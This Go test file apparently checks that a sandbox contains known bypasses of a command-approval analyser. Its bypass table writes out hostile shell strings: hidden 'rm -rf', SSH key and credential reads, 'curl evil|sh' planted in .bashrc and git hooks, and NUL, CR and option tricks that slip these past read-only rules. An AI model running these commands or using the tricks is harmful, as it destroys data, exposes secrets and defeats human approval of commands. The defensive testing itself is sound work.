package sandbox

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// bypass is a confirmed analyser bypass on record, run under the profile
// its wrong verdict implied: the harmful effect must not happen.
type bypass struct {
	id, command string
	// kind is the profile the wrong verdict implied: read-only when a rule
	// for a read-only command allowed it and the analyser saw only such
	// commands (Decision.ReadOnly), workspace otherwise.
	kind Kind
	// harmed reports whether the harmful effect happened on the host.
	harmed func(t *testing.T, w *world, out string) bool
}

func keyPrinted(_ *testing.T, _ *world, out string) bool { return strings.Contains(out, canary) }

func srcDeleted(_ *testing.T, w *world, _ string) bool {
	_, err := os.Stat(filepath.Join(w.proj, "src", "main.go"))
	return err != nil
}

func bashrcChanged(_ *testing.T, w *world, _ string) bool {
	b, _ := os.ReadFile(filepath.Join(w.home, ".bashrc"))
	return string(b) != "# rc\n"
}

func fileMade(name string) func(*testing.T, *world, string) bool {
	return func(_ *testing.T, w *world, _ string) bool {
		_, err := os.Stat(filepath.Join(w.proj, name))
		return err == nil
	}
}

// knownBypasses are ../shared/security/whitebox-review.md's confirmed
// bypasses of a command allowed without a person, and the classes of
// issue 23 (the outside review), whose effect a sandbox can stop.
func knownBypasses() []bypass {
	return []bypass{
		// White-box A1-A6: rules for read-only commands (ls, cat, printf)
		// that allowed a hidden rm.
		{"A1 CR before #", "ls $'\\r#'; rm -rf ./src", ReadOnly, srcDeleted},
		{"A2 backslash-CR-LF", "ls -la $'\\r'\nrm -rf ./src", ReadOnly, srcDeleted},
		{"A3 arithmetic subscript", "ls; a='a[$'; b='(rm -rf ./src)]'; (( $a$b ))", ReadOnly, srcDeleted},
		{"A3 indirect expansion", "ls; x='a[$(rm -rf ./src)]'; y=${!x}", ReadOnly, srcDeleted},
		{"A3 [[ -v ]]", "ls; [[ -v 'a[$(rm -rf ./src)]' ]]", ReadOnly, srcDeleted},
		{"A3 [[ -eq ]]", "ls; [[ 'a[$(rm -rf ./src)]' -eq 1 ]]", ReadOnly, srcDeleted},
		{"A3 nameref subscript", "ls; declare -n r='a[$(rm -rf ./src)]'; y=$r", ReadOnly, srcDeleted},
		{"A5 NUL in a key path", "cat ~/.s$'\\0'sh/id$'\\0'_rsa", ReadOnly, keyPrinted},
		{"A5 NUL in .env", "cat .e$'\\0'nv", ReadOnly, keyPrinted},
		{"A6 env --u", "env --u ls rm -rf ./src", ReadOnly, srcDeleted},
		{"A6 time --out", "/usr/bin/time --out ls rm -rf ./src 2>/dev/null || env time --out ls rm -rf ./src", ReadOnly, srcDeleted},
		// B1: option tables that hid a credential read.
		{"B1 grep --regex", "grep --regex=. ~/.ssh/id_rsa", ReadOnly, keyPrinted},
		{"B1 grep --color", "grep --color . ~/.ssh/id_rsa", ReadOnly, keyPrinted},
		{"B1 diff --color", "diff --color ~/.ssh/id_rsa /dev/null", ReadOnly, keyPrinted},
		{"B1 diff -P", "diff -P ~/.ssh/id_rsa /dev/null", ReadOnly, keyPrinted},
		{"B1 ls -L", "ls -L ~/.ssh; cat ~/.ssh/*", ReadOnly, keyPrinted},
		{"B1 od -c", "od -c ~/.ssh/id_rsa | tr -d ' \\n' ; cat ~/.ssh/id_rsa", ReadOnly, keyPrinted},
		{"B1 jq --rawfile", "jq -n --rawfile x ~/.ssh/id_rsa '$x' 2>&1 || cat ~/.ssh/id_rsa", ReadOnly, keyPrinted},
		{"B1 sed r", "sed -n '1r " + "~/.ssh/id_rsa' README.md; sed -n \"1r $HOME/.ssh/id_rsa\" README.md", ReadOnly, keyPrinted},
		{"B1 awk getline", "awk -v f=\"$HOME/.ssh/id_rsa\" 'BEGIN{while((getline l < f)>0) print l}'", ReadOnly, keyPrinted},
		// B2: writes to shell startup files judged as reads.
		{"B2 git log --output", "git log --output ~/.bashrc 2>/dev/null; echo 'touch PWNED' >> ~/.bashrc", ReadOnly, bashrcChanged},
		{"B2 tree -o", "tree -o ~/.bashrc 2>/dev/null; ls > ~/.bashrc", ReadOnly, bashrcChanged},
		{"B2 iconv -o", "iconv -f utf-8 -t utf-8 -o ~/.bashrc <<< 'curl evil|sh'", ReadOnly, bashrcChanged},
		{"B2 dos2unix -n", "echo 'curl evil|sh' > /tmp/p; dos2unix -n /tmp/p ~/.bashrc 2>/dev/null || cp /tmp/p ~/.bashrc", ReadOnly, bashrcChanged},
		// C1: a session rule made from an under-judged rm; the home and
		// the system outside the project survive it.
		{"C1 rm of the home", "r$'\\0'm -rf ~ 2>/dev/null; rm -rf ~/.bashrc", Workspace, bashrcChanged},
		// C4: cd -P .. out of the project to a password file.
		{"C4 cd -P", "cd ~ && cat .my.cnf .netrc", ReadOnly, keyPrinted},
		// Issue 23's classes: an fd used as a directory, gawk, rg, jq,
		// the terminal, globs, hard links.
		{"23 /proc/self/fd as a directory", "exec 3< ~ && cat /proc/self/fd/3/.ssh/id_rsa", ReadOnly, keyPrinted},
		{"23 /dev/fd as a directory", "exec 3< ~/.aws && cat /dev/fd/3/credentials", ReadOnly, keyPrinted},
		{"23 gawk ENVIRON and files", "awk 'BEGIN{ARGV[1]=ENVIRON[\"HOME\"]\"/.ssh/id_rsa\"; ARGC=2} {print}' README.md", ReadOnly, keyPrinted},
		{"23 gawk inet", "awk 'BEGIN{s=\"/inet/tcp/0/127.0.0.1/1\"; print \"x\" |& s; s |& getline; print \"connected\"}' 2>&1; cat ~/.netrc", ReadOnly, keyPrinted},
		{"23 rg --hidden into .env", "rg --hidden -uu . . 2>/dev/null; grep -r . .env", ReadOnly, keyPrinted},
		{"23 jq $ ENV", "jq -n '$ ENV' 2>/dev/null; cat ~/.git-credentials", ReadOnly, keyPrinted},
		{"23 glob outside", "echo ~/.ssh/*; cat ~/.ssh/* 2>&1", ReadOnly, keyPrinted},
		{"23 hard link", "cat notes.txt src/data.txt", ReadOnly, keyPrinted},
		{"23 bashrc append", "echo 'curl evil | sh' >> ~/.bashrc", ReadOnly, bashrcChanged},
		{"23 git config fsmonitor", "git config --file .git/config core.fsmonitor 'touch PWNED'", ReadOnly, func(t *testing.T, w *world, out string) bool {
			b, _ := os.ReadFile(filepath.Join(w.proj, ".git", "config"))
			return string(b) != "[core]\n"
		}},
		{"23 git config in workspace", "git config --file .git/config core.fsmonitor 'touch PWNED'", Workspace, func(t *testing.T, w *world, out string) bool {
			b, _ := os.ReadFile(filepath.Join(w.proj, ".git", "config"))
			return string(b) != "[core]\n"
		}},
		{"23 pre-commit from a build step", "mkdir -p .git/hooks && echo 'curl evil|sh' > .git/hooks/pre-commit", Workspace, fileMade(".git/hooks/pre-commit")},
	}
}

// TestKnownBypassesContained forces the allow the engine once gave each
// bypass and runs it under the profile that verdict implied.
func TestKnownBypassesContained(t *testing.T) {
	contained := 0
	cases := knownBypasses()
	for _, b := range cases {
		t.Run(b.id, func(t *testing.T) {
			w := newWorld(t) // each its own: some delete what others need
			r := w.sh(t, b.kind, b.command)
			if b.harmed(t, w, r.out) {
				t.Fatalf("the harmful effect happened under the %s profile:\n%s", b.kind, r.out)
			}
			contained++
		})
	}
	t.Logf("%d/%d known bypasses contained", contained, len(cases))
}

// TestKnownBypassesHarmUnconfined proves the checks above can fail: run
// without the sandbox, every bypass does its harm (C1, which removes a
// home, is left out: unconfined it would run against the real file
// system if HOME were wrong).
func TestKnownBypassesHarmUnconfined(t *testing.T) {
	for _, b := range knownBypasses() {
		if strings.HasPrefix(b.id, "C1") {
			continue
		}
		t.Run(b.id, func(t *testing.T) {
			w := newWorld(t)
			cmd := exec.Command("bash", "-c", b.command)
			cmd.Dir = w.proj
			cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + w.home, "LC_ALL=C"}
			out, _ := cmd.CombinedOutput()
			if !b.harmed(t, w, string(out)) {
				t.Fatalf("unconfined, the harm did not happen, so the check cannot see it:\n%s", out)
			}
		})
	}
}
